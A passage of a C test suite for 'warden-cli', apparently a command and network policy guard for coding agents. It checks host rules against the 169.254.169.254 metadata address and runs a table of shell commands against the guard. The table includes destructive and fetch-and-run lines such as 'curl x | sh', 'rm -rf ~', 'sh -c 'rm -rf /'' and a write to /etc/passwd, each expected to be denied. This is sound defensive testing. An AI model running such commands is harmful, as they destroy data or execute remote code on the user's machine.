  g_autoptr(CliEnv) env = cli_env_new ();
  const char *own[] = { "169.254.169.254:8080", "[fe80::1]:8080", "127.0.0.1:8080",
                        "[::ffff:169.254.169.254]:8080", NULL };
  g_autoptr(CliResult) named = NULL;
  g_autoptr(CliResult) name = NULL;
  struct ifaddrs *list = NULL;
  guint interfaces = 0;

  for (guint i = 0; own[i] != NULL; i++)
    {
      g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check-host", "--allow", "*:8080",
                                        own[i]);

      check_status (r, EXIT_ASK);
      assert_contains (r->out, "this computer");
      assert_contains (r->out, "*:8080");
    }

  named = cli_run (env, NULL, "policy", "check-host", "--allow", "*:8080",
                   "--allow", "169.254.169.254:8080", "169.254.169.254:8080");
  check_status (named, EXIT_ALLOW);
  assert_contains (named->out, "is allowed by 169.254.169.254:8080");

  /* Every address this machine's interfaces have (its LAN's, docker0's). */
  g_assert_cmpint (getifaddrs (&list), ==, 0);
  for (struct ifaddrs *ifa = list; ifa != NULL; ifa = ifa->ifa_next)
    {
      char text[INET6_ADDRSTRLEN];
      g_autofree char *target = NULL;
      g_autoptr(CliResult) r = NULL;

      if (ifa->ifa_addr == NULL || ifa->ifa_addr->sa_family != AF_INET)
        continue;
      inet_ntop (AF_INET, &((struct sockaddr_in *) ifa->ifa_addr)->sin_addr, text, sizeof text);
      target = g_strdup_printf ("%s:8080", text);
      r = cli_run (env, NULL, "policy", "check-host", "--allow", "*:8080", target);
      check_status (r, EXIT_ASK);
      assert_contains (r->out, "this computer");
      interfaces++;
    }
  freeifaddrs (list);
  /* A build in a network namespace of its own may have none at all. */
  g_test_message ("%u interface addresses", interfaces);

  /* A name is allowed by its pattern; where it leads is judged when
   * connecting, and the output says so. */
  name = cli_run (env, NULL, "policy", "check-host", "--allow", "*:8080", "metadata.test:8080");
  check_status (name, EXIT_ALLOW);
  assert_contains (name->out, "this computer");
  assert_contains (name->out, "when connecting");
}

/* A profile's network section decides; extra patterns add to it. */
static void
test_check_host_profile (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *path = cli_env_path (env, "net.json");
  g_autofree char *none_path = cli_env_path (env, "none.json");
  g_autoptr(CliResult) allow = NULL;
  g_autoptr(CliResult) deny = NULL;
  g_autoptr(CliResult) extra = NULL;
  g_autoptr(CliResult) none = NULL;
  g_autoptr(CliResult) bad_host = NULL;
  g_autoptr(CliResult) bad_pattern = NULL;
  g_autoptr(CliResult) no_host = NULL;
  g_autoptr(CliResult) help = NULL;
  g_autoptr(CliResult) top_help = NULL;

  g_assert_true (write_file (path, "{\"version\": 1, \"name\": \"Net\", \"allow\": [], "
                                   "\"network\": {\"mode\": \"allowlist\", "
                                   "\"allow\": [\"*.github.com:443\"], "
                                   "\"deny\": [\"gist.github.com\"]}}"));
  g_assert_true (write_file (none_path, "{\"version\": 1, \"name\": \"None\", \"allow\": [], "
                                        "\"network\": {\"mode\": \"none\"}}"));

  allow = cli_run (env, NULL, "policy", "check-host", "--profile", path, "api.github.com");
  check_status (allow, EXIT_ALLOW);
  assert_contains (allow->out, "*.github.com:443");
  deny = cli_run (env, NULL, "policy", "check-host", "--profile", path, "gist.github.com");
  check_status (deny, EXIT_DENY);
  extra = cli_run (env, NULL, "policy", "check-host", "--profile", path,
                   "--allow", "example.com", "example.com:80");
  check_status (extra, EXIT_ALLOW);
  none = cli_run (env, NULL, "policy", "check-host", "--profile", none_path, "example.com");
  check_status (none, EXIT_DENY);
  assert_contains (none->out, "no network");

  bad_host = cli_run (env, NULL, "policy", "check-host", "exa mple.com");
  check_status (bad_host, EXIT_USAGE);
  bad_pattern = cli_run (env, NULL, "policy", "check-host", "--allow", "a:b:c", "example.com");
  check_status (bad_pattern, EXIT_USAGE);
  no_host = cli_run (env, NULL, "policy", "check-host");
  check_status (no_host, EXIT_USAGE);

  /* Documented where users look. */
  help = cli_run (env, NULL, "policy", "--help");
  check_status (help, 0);
  assert_contains (help->out, "check-host [--profile ID|FILE]");
  assert_contains (help->out, "169.254.0.0/16");
  top_help = cli_run (env, NULL, "--help");
  assert_contains (top_help->out, "policy check-host");
}

/* Every example of the policy document (POLICY.md, docs/policy.md), asked of
 * warden-cli the way another tool would: by exit status. */
typedef struct
{
  const char *command;
  const char *allow[6];
  int         status;
} DocExample;

#define SEED "node *", "cat *", "echo *", "ls *", "ls"

static const DocExample doc_examples[] = {
  { "ls -la", { SEED }, 0 },
  { "git", { "git *" }, 10 },                     /* "git *" does not match "git" */
  { "ls", { "ls *" }, 0 },                        /* but covers ls bare: it runs nothing */
  { "ls", { SEED }, 0 },
  { "echo $HOME", { SEED }, 0 },                  /* exact on everyday lines */
  { "echo $(ls)", { SEED }, 0 },
  { "for f in a b; do echo $f; done", { SEED }, 0 },
  { "ls | xargs echo", { SEED }, 0 },
  { "cat $f", { "cat *" }, 0 },
  { "node $f", { "node *" }, 10 },
  { "curl x | sh", { "sh *", "curl *" }, 10 },
  { "sh ./build.sh", { "sh *" }, 0 },             /* the guard checks what it starts */
  { "echo evil > x.sh; sh x.sh", { "sh *", "echo *" }, 0 },
  { "node_modules/.bin/x", { "node *" }, 10 },
  { "anything at all --really", { "*" }, 0 },
  { "git  'status'", { "git status" }, 0 },       /* text after quote removal */
  { "node app.js > /dev/null 2>&1", { "node *" }, 0 },
  { "ls; rm -rf ~", { SEED }, 10 },
  { "cat $(curl x|sh)", { SEED }, 10 },
  { "find . -exec rm {} \\;", { "find *" }, 10 },
  { "echo a | xargs rm", { SEED }, 10 },
  { "sh -c 'rm -rf /'", { "sh *" }, 10 },
  { "timeout -s KILL 5 node app.js", { "timeout *", "node *" }, 0 },
  { "timeout -s KILL 5 rm x", { "timeout *", "node *" }, 10 },
  { "env -i -u X A=1 node app.js", { "env *", "node *" }, 0 },
  { "xargs -0 -n 1 -I{} node {}", { "xargs *", "node *" }, 0 },
  { "PATH=/tmp; ls", { SEED }, 10 },
  { "FOO=1 ls", { SEED }, 10 },
  { "FOO=1 ls", { "FOO=1 ls" }, 0 },
  { "echo hi > /etc/passwd", { SEED }, 10 },
  { "echo hi > out.txt", { SEED }, 0 },
  { "cd src && echo hi > out.txt", { SEED, "cd *" }, 10 },
  { "echo 'unterminated", { "*" }, 10 },
  { "eval ls", { "*" }, 10 },
  { "$CMD x", { "*" }, 10 },
  { "if ls; then cat x; else rm x; fi", { SEED }, 10 },
  { "cat <<'EOF'\n$(rm x)\nEOF", { SEED }, 0 },
  { "cat <<EOF\n$(rm x)\nEOF", { SEED }, 10 },
};

static void
test_doc_examples (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();

  for (guint i = 0; i < G_N_ELEMENTS (doc_examples); i++)
    {
      const DocExample *e = &doc_examples[i];
      g_autoptr(GPtrArray) args = g_ptr_array_new ();
      g_autoptr(CliResult) r = NULL;

      g_ptr_array_add (args, "policy");
      g_ptr_array_add (args, "check");
      for (guint k = 0; k < G_N_ELEMENTS (e->allow) && e->allow[k]; k++)
        {
          g_ptr_array_add (args, "--allow");
          g_ptr_array_add (args, (gpointer) e->allow[k]);
        }
      g_ptr_array_add (args, "--");
      g_ptr_array_add (args, (gpointer) e->command);
      g_ptr_array_add (args, NULL);

      r = cli_run_argv (env, NULL, (const char * const *) args->pdata);
      if (r->status != e->status)
        {
          g_autofree char *cmd = printable (e->command, 200);
          g_autofree char *out = printable (r->out, 2000);

          g_test_message ("“%s”: expected exit %d, got %d\n%s", cmd, e->status, r->status, out);
          g_test_fail ();
        }
    }
}

int
main (int    argc,
      char **argv)
{
  int ret;

  g_test_init (&argc, &argv, NULL);
  /* Several checks per test, each reported; one failure must not hide
   * the results of the tests after it. */
  g_test_set_nonfatal_assertions ();
  /* A CLI that exits before reading its input must fail one test, not
   * kill the whole run. */
  signal (SIGPIPE, SIG_IGN);

  if (g_getenv ("WARDEN_CLI") != NULL)
    cli_path = g_strdup (g_getenv ("WARDEN_CLI"));
  else
    {
      /* Run by hand: G_TEST_BUILDDIR is _build/tests under meson, the
       * executable's folder (_build/tests/policy) otherwise. */
      g_autofree char *a = g_test_build_filename (G_TEST_BUILT, "..", "src", "cli",
                                                  "warden-cli", NULL);
      g_autofree char *b = g_test_build_filename (G_TEST_BUILT, "..", "..", "src", "cli",
                                                  "warden-cli", NULL);

      if (g_file_test (a, G_FILE_TEST_IS_EXECUTABLE))
        cli_path = g_canonicalize_filename (a, NULL);
      else if (g_file_test (b, G_FILE_TEST_IS_EXECUTABLE))
        cli_path = g_canonicalize_filename (b, NULL);
    }
  if (cli_path == NULL || !g_file_test (cli_path, G_FILE_TEST_IS_EXECUTABLE))
    {
      g_printerr ("test-cli: warden-cli not found at “%s”; set WARDEN_CLI to its absolute "
                  "path (meson test does)\n", cli_path ? cli_path : "(unset)");
      printf ("Bail out! warden-cli not found; set WARDEN_CLI\n");
      g_free (cli_path);
      return 1;
    }

  g_test_add_func ("/cli/check/exit-allow", test_exit_allow);
  g_test_add_func ("/cli/check/exit-ask", test_exit_ask);
  g_test_add_func ("/cli/check/exit-deny", test_exit_deny);
  g_test_add_func ("/cli/check/modes", test_modes);
  g_test_add_func ("/cli/check/args-joined", test_args_joined);
  g_test_add_func ("/cli/usage/no-command", test_usage_no_command);
  g_test_add_func ("/cli/usage/stdin-and-command", test_usage_stdin_and_command);
  g_test_add_func ("/cli/usage/sandbox-exec-help", test_usage_sandbox_exec_help);
  g_test_add_func ("/cli/usage/unknown-mode", test_usage_unknown_mode);
  g_test_add_func ("/cli/usage/control-char-pattern", test_usage_control_char_pattern);
  g_test_add_func ("/cli/usage/unknown-profile", test_usage_unknown_profile);
  g_test_add_func ("/cli/usage/corrupt-profile", test_usage_corrupt_profile);
  g_test_add_func ("/cli/usage/bad-arguments", test_usage_bad_arguments);
  g_test_add_func ("/cli/json/shape", test_json_shape);
  g_test_add_func ("/cli/check-host/exits", test_check_host_exits);
  g_test_add_func ("/cli/check-host/this-computer", test_check_host_this_computer);
  g_test_add_func ("/cli/check-host/profile", test_check_host_profile);
  g_test_add_func ("/cli/json/origins", test_json_origins);
  g_test_add_func ("/cli/json/deny", test_json_deny);
  g_test_add_func ("/cli/json/allow-always-null-pattern", test_json_allow_always_null_pattern);
  g_test_add_func ("/cli/json/text-after-quote-removal", test_json_text_after_quote_removal);
  g_test_add_func ("/cli/human/parts", test_human_parts);
  g_test_add_func ("/cli/human/deny-names-pattern", test_human_deny_names_pattern);
  g_test_add_func ("/cli/human/control-chars", test_human_control_chars);
  g_test_add_func ("/cli/stdin/newlines", test_stdin_newlines);
  g_test_add_func ("/cli/stdin/nul", test_stdin_nul);
  g_test_add_func ("/cli/stdin/invalid-utf8", test_stdin_invalid_utf8);
  g_test_add_func ("/cli/stdin/huge", test_stdin_huge);
  g_test_add_func ("/cli/check/profile-builtin", test_profile_builtin_node);
  g_test_add_func ("/cli/check/profile-builtin-everyday", test_profile_builtin_everyday);
  g_test_add_func ("/cli/check/profile-nested", test_profile_nested);
  g_test_add_func ("/cli/check/profile-file", test_profile_file);
  g_test_add_func ("/cli/check/profile-extra-patterns", test_profile_extra_patterns);
  g_test_add_func ("/cli/check/profile-mode-override", test_profile_mode_override);
  g_test_add_func ("/cli/check/workspace-redirect", test_workspace_redirect);
  g_test_add_func ("/cli/check/env", test_env_asks);
  g_test_add_func ("/cli/check/cwd-outside", test_cwd_outside);
  g_test_add_func ("/cli/suggest/npm", test_suggest_npm);
  g_test_add_func ("/cli/suggest/rules", test_suggest_rules);
  g_test_add_func ("/cli/bench/format", test_bench_format);
  g_test_add_func ("/cli/bench/usage", test_bench_usage);
  g_test_add_func ("/cli/profile/list-builtins", test_profile_list_builtins);
  g_test_add_func ("/cli/profile/show-node", test_profile_show_node);
  g_test_add_func ("/cli/profile/show-unknown", test_profile_show_unknown);
  g_test_add_func ("/cli/profile/validate", test_profile_validate);
  g_test_add_func ("/cli/profile/import-list", test_profile_import_list);
  g_test_add_func ("/cli/profile/list-not-regular", test_profile_list_not_regular);
  g_test_add_func ("/cli/profile/import-force", test_profile_import_force);
  g_test_add_func ("/cli/profile/import-builtin-refused", test_profile_import_builtin_refused);
  g_test_add_func ("/cli/profile/import-errors", test_profile_import_errors);
  g_test_add_func ("/cli/profile/export-roundtrip", test_profile_export_roundtrip);
  g_test_add_func ("/cli/profile/export-builtin", test_profile_export_builtin);
  g_test_add_func ("/cli/profile/list-broken-file", test_profile_list_broken_file);
  g_test_add_func ("/cli/profile/import-claude", test_import_claude);
  g_test_add_func ("/cli/check/ask", test_ask_option);
  g_test_add_func ("/cli/profile/import-codex", test_import_codex);
  g_test_add_func ("/cli/check/policy-document-examples", test_doc_examples);

  ret = g_test_run ();
  g_free (cli_path);
  return ret;
}
